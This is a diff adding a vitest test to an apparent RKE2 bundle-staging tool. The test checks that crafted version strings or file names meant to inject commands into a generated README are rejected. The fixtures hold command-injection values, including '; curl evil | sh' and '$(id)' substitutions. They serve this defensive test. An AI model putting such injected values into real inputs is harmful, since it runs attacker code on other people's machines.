@@ -5,6 +5,7 @@ import { promisify } from 'node:util';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { parse } from 'yaml';
 import { stageBundle } from '../../src/stage/stage-bundle.js';
+import { CraftedBundle } from '../helpers/crafted-bundle.js';
 import { type FileHost, startFileHost } from '../helpers/file-host.js';
 import { type FixtureRelease, buildRke2Release, hostRelease } from '../helpers/rke2-release.js';
 import { requireTools } from '../helpers/tools.js';
@@ -132,5 +133,23 @@ describe.runIf(ok)('RKE2 stage', () => {
     await followReadme(join(dir, 'rke2'), node, 'server');
     expect(readdirSync(join(node, 'var/lib/rancher/rke2/agent/images'))).toEqual(['rke2-images.linux-amd64.tar.zst']);
     expect(readFileSync(join(dir, 'rke2', 'README.md'), 'utf8')).toContain('No `registries.yaml` was generated');
+  });
+
+  it('refuses a crafted RKE2 version or file name that would put a command into the README (exit 3, nothing staged)', async () => {
+    const rke2 = (d: any) => d.annotations['dev.ferry.kind'] === 'rke2' && d.annotations['dev.ferry.rke2.role'] === 'checksums';
+    const crafts: [string, (b: CraftedBundle) => void][] = [
+      ['version annotation', (b) => b.editIndexEntry(rke2, (d) => (d.annotations['dev.ferry.rke2.version'] = `${VERSION}; curl evil | sh`))],
+      ['lock version', (b) => b.editJson('ferry.lock.json', (l) => (l.rke2.version = `${VERSION}$(id)`))],
+      ['file name', (b) => b.editJson('ferry.lock.json', (l) => (l.rke2.files.find((f: any) => f.role === 'checksums').name = 'sha256sum-$(id).txt'))],
+    ];
+    for (const [what, edit] of crafts) {
+      const work = scratch();
+      const b = new CraftedBundle(bundles.sets as string);
+      edit(b);
+      const r = await run(['bundle', 'stage', b.write(join(work, 'crafted.tar')), '--dir', join(work, 'stage'), '--no-verify']);
+      expect(r.stderr, what).toContain('[UNSAFE_VALUE]');
+      expect(r.code, what).toBe(3);
+      expect(readdirSync(work), what).toEqual(['crafted.tar']);
+    }
   });
 });
